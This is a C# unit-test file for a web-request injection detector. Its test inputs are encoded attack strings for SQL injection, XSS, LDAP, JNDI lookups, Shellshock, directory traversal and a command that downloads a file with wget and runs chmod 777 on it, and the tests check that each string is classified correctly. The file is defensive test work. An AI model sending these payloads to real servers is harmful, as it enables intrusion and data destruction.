using CsCheck;
using Vittne.TestKit;
using Vittne.Trails.Heuristics.Requests;

namespace Vittne.Trails.Tests.Heuristics;

public sealed class InjectionTests
{
    [Fact]
    public void Every_line_of_the_request_vectors_is_classified_as_given()
    {
        List<string[]>? rows = SharedVectors.Rows("suspicious_request.tsv", 2);
        Assert.SkipWhen(rows is null, "the shared vector files are not here; set VITTNE_SHARED");
        Assert.All(rows!, row => Assert.Equal(row[1], FirstClassOf(row[0])));
    }

    [Theory]
    [InlineData("/sqli/?id=1%27+and+1%3d1%23&submit=submit", "potential sql injection")]
    [InlineData("/sqli/?id=1%27+and+1%3d1+union+select+user%2c+password+from+users%23", "potential sql injection")]
    [InlineData("/?id=1'/**/union/**/select/**/1,2", "potential sql injection")]
    [InlineData("/?q=' or 'a'='a", "potential sql injection")]
    [InlineData("/?id=1;drop table users", "potential sql injection")]
    [InlineData("/?q=%253Cscript%253Ealert(1)%253C/script%253E", "potential xss injection")]
    [InlineData("/?q=\" onerror=alert(1)", "potential xss injection")]
    [InlineData("/?name=' or /text()='", "potential xml injection")]
    [InlineData("/?user=(|(uid=*)", "potential ldap injection")]
    [InlineData("/?x=${jndi:ldap://192.0.2.1/a}", "potential ssti injection")]
    [InlineData("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://192.0.2.1/a%7D", "potential ssti injection")]
    [InlineData("/?bssid=02%3a00%3a00%3a00%3a00%3a00", "potential data leakage")]
    [InlineData("/a?ip=;id", "potential remote code execution")]
    [InlineData("/shell?cd+/tmp;wget+http:/192.0.2.1/a;chmod+777+a", "potential remote code execution")]
    [InlineData("() { :;}; /bin/bash -c id", "potential remote code execution")]
    [InlineData("/index.php?page=../../../x", "potential directory traversal")]
    [InlineData("/index.php?page=..%5c..%5c..%5cboot.ini", "potential directory traversal")]
    [InlineData("/w00tw00t.at.blackhats.romanian.anti-sec:)?", "potential web scan")]
    [InlineData("/form2dns.cgi?pridns=203.0.113.9", "potential dns changer")]
    public void Attacks_are_told_by_their_class(string encoded, string expected) => Assert.Equal(expected, FirstClassOf(encoded));

    [Theory]
    [InlineData("/select?from=london&to=paris&union=no")]
    [InlineData("/?price=${AUCTION_PRICE}&id=7")]
    [InlineData("/style/../images/../images/../images/a.png?v=1")]
    [InlineData("/search?q=salt and pepper or 2 eggs")]
    [InlineData("/?a=1;id=7&ls=2")]
    [InlineData("/?mail=a@example.com&cc=b@example.com")]
    [InlineData("/?cmd=executive summary")]
    [InlineData("/system?x=32")]
    [InlineData("/page?description=on load balancing (part 2)")]
    public void Ordinary_requests_are_left_alone(string encoded) => Assert.Equal("", FirstClassOf(encoded));

    [Fact]
    public void Every_class_that_a_request_shows_is_told_once()
    {
        HeuristicRun run = new HeuristicRun().Get("/?a=<script>&b=../../../etc/passwd&c=<script>");
        Assert.Equal(["potential xss injection (suspicious)", "potential directory traversal (suspicious)"], run.Infos);
    }

    [Fact]
    public void Whitelisted_part_hides_nothing_else() =>
        Assert.Equal(["potential sql injection (suspicious)"], new HeuristicRun().Get("/ads/../images/?x=ads&id=1'+and+1=1").Infos);

    [Fact]
    public void Class_found_in_the_body_names_method_and_body()
    {
        HeuristicRun run = new HeuristicRun().Request(
            "POST /submit HTTP/1.1\r\nHost: postsqli.example\r\n\r\n", "q=1 UNION ALL SELECT pwd FROM users");
        ThreatRecord threat = Assert.Single(run.Threats);
        Assert.Equal(@"postsqli.example(/submit \(POST q=1%20UNION%20ALL%20SELECT%20pwd%20FROM%20users\))", threat.Trail);
        Assert.Equal(EventType.Http, threat.Type);
        Assert.Equal("request-injection", threat.Heuristic);
        Assert.Equal("(heuristic)", threat.Reference);
        Assert.Equal(Severity.Medium, threat.Severity);
    }

    [Fact]
    public void Path_is_shown_in_lower_case_with_single_slashes_and_encoded_parentheses()
    {
        HeuristicRun run = new HeuristicRun().Get("/Search//?q=<script>alert(1)</script>", "XSS.example:80");
        Assert.Equal("xss.example(/search/?q=<script>alert%281%29</script>)", Assert.Single(run.Threats).Trail);
    }

    [Fact]
    public void Code_in_a_header_is_told_with_the_client_that_a_proxy_names()
    {
        HeuristicRun run = new HeuristicRun().Request(
            "GET / HTTP/1.1\r\nHost: a.example\r\nuser-agent: () { :;}; /bin/bash\r\nX-Forwarded-For: 192.0.2.1, 2001:DB8::1\r\n\r\n");
        ThreatRecord threat = Assert.Single(run.Threats);
        Assert.Equal("potential remote code execution (suspicious)", threat.Info);
        Assert.Equal(["192.0.2.1", "2001:db8::1"], threat.ForwardedFor);
        Assert.Equal("http.header", threat.Source);
    }

    [Fact]
    public void Data_that_goes_to_a_private_address_does_not_leak()
    {
        const string Head = "GET /?imei=123456789012345 HTTP/1.1\r\nHost: a.example\r\n\r\n";
        Assert.Empty(new HeuristicRun().Request(Head, destination: "192.168.1.1").Threats);
        Assert.Equal(["potential data leakage (suspicious)"], new HeuristicRun().Request(Head).Infos);
    }

    [Fact]
    public void Garbage_is_classified_in_time_that_grows_with_its_length() =>
        Gen.Char["=' ./;&()[]{}$|abcdnslo@\u00ff"].Array[0, 4000].Sample(
            characters => _ = RequestInjectionDetector.Classify(new string(characters), InjectionClasses.All).Bits >= 0, iter: 200);

    [Theory]
    [InlineData("../")]
    [InlineData("${")]
    [InlineData("select from ")]
    [InlineData("a@b.")]
    [InlineData("on error=")]
    [InlineData("' or '")]
    [InlineData("<script ")]
    [InlineData("dnsdns")]
    [InlineData("union/*")]
    public void Text_made_of_half_attacks_does_not_slow_the_patterns_down(string part)
    {
        string text = "?=" + string.Concat(Enumerable.Repeat(part, 64 * 1024 / part.Length));
        Assert.True(InjectionClassifier.Classify(text, InjectionClasses.All).Bits >= 0);
    }

    private static string FirstClassOf(string encoded)
    {
        InjectionClasses found = RequestInjectionDetector.Classify(encoded, InjectionClasses.All);
        for (InjectionClass injection = InjectionClass.Sql; injection <= InjectionClass.DnsChanger; injection++)
        {
            if (found.Contains(injection))
            {
                return InjectionNames.InfoOf(injection).Replace(" (suspicious)", "", StringComparison.Ordinal);
            }
        }

        return "";
    }
}
